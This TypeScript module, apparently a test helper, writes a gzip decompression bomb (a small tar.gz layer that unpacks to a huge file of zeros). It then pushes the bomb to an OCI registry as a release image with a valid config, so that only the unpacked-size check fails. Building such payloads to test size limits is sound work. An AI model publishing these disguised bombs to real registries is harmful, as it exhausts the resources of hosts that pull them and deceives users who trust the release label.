// A gzip bomb pushed as a release image: one tar+gzip layer of a few hundred
// kilobytes holding a file of zeros many times larger, with a valid image
// config for this host, so that everything but the unpacked size checks out.
import { createWriteStream } from 'node:fs';
import { Readable } from 'node:stream';
import { pipeline } from 'node:stream/promises';
import { createGzip } from 'node:zlib';
import { MEDIA_TYPES, hostPlatform, pushBlob, pushManifest } from '@kedge/oci';

/** Writes a tar.gz holding one file `zeros.bin` of `bytes` zero bytes. */
export async function writeGzipBomb(file: string, bytes: number): Promise<void> {
  async function* tar(): AsyncGenerator<Buffer> {
    const zeros = Buffer.alloc(1024 * 1024);
    yield ustarHeader('zeros.bin', bytes);
    for (let left = bytes; left > 0; left -= zeros.length)
      yield zeros.subarray(0, Math.min(left, zeros.length));
    if (bytes % 512 !== 0) yield Buffer.alloc(512 - (bytes % 512));
    yield Buffer.alloc(1024);
  }
  await pipeline(Readable.from(tar()), createGzip({ level: 1 }), createWriteStream(file));
}

/** Pushes `layerFile` as the only layer of `ref`, labelled as release `version`; returns the manifest digest. */
export async function pushBombRelease(ref: string, layerFile: string, version: string): Promise<string> {
  const platform = hostPlatform();
  const layer = await pushBlob(ref, layerFile);
  const config = await pushBlob(
    ref,
    Buffer.from(
      JSON.stringify({
        architecture: platform.architecture,
        os: platform.os,
        config: { Labels: { 'io.kedge.version': version } },
      }),
    ),
  );
  const pushed = await pushManifest(ref, {
    schemaVersion: 2,
    mediaType: MEDIA_TYPES.ociManifest,
    config: { mediaType: MEDIA_TYPES.ociConfig, digest: config.digest, size: config.size },
    layers: [{ mediaType: MEDIA_TYPES.ociLayerTarGzip, digest: layer.digest, size: layer.size }],
  });
  return pushed.digest;
}

function ustarHeader(name: string, size: number): Buffer {
  const h = Buffer.alloc(512);
  h.write(name, 0, 100, 'utf8');
  h.write('0000644\0', 100, 'ascii');
  h.write('0000000\0', 108, 'ascii');
  h.write('0000000\0', 116, 'ascii');
  h.write(`${size.toString(8).padStart(11, '0')}\0`, 124, 'ascii');
  h.write('00000000000\0', 136, 'ascii');
  h.write('        ', 148, 'ascii');
  h.write('0', 156, 'ascii');
  h.write('ustar\0', 257, 'latin1');
  h.write('00', 263, 'ascii');
  let sum = 0;
  for (const b of h) sum += b;
  h.write(`${sum.toString(8).padStart(6, '0')}\0 `, 148, 'ascii');
  return h;
}
